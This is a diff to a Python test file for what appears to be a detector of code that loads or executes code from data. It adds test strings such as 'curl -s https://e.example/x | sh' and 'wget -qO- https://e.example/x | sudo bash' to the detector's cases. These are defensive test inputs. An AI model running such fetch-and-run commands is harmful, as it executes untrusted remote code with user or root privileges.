@@ -24,6 +24,8 @@ def told(code, path="shop/core.py"):
         "import zipimport\nm = zipimport.zipimporter('data.bin').load_module('m')\n",
         "import sys\nsys.meta_path.insert(0, object())\n",
         "import sys\nsys.path_hooks[:0] = [print]\n",
+        "import os\nos.system('curl -s https://e.example/x | sh')\n",
+        "import subprocess as s\ns.run(['bash', '-c', 'wget -qO- https://e.example/x | sudo bash'])\n",
     ],
 )
 def test_code_that_is_loaded_out_of_data_is_asked_about(code):
@@ -39,6 +41,8 @@ def test_code_that_is_loaded_out_of_data_is_asked_about(code):
         "import importlib.util\ns = importlib.util.spec_from_file_location('a', 'shop/plugins/a.py')\n",
         "import json\nx = json.load(open('shop/data.bin'))\n",
         "import sys\nhooks = list(sys.meta_path)\n",
+        "import subprocess\nsubprocess.run(['curl', '-o', 'x', 'https://e.example/x'])\n",
+        "HELP = 'install it by: curl https://e.example/x | sh'\n",
         "import ctypes\nlib = ctypes.CDLL('libc.so.6')\n",
     ],
 )
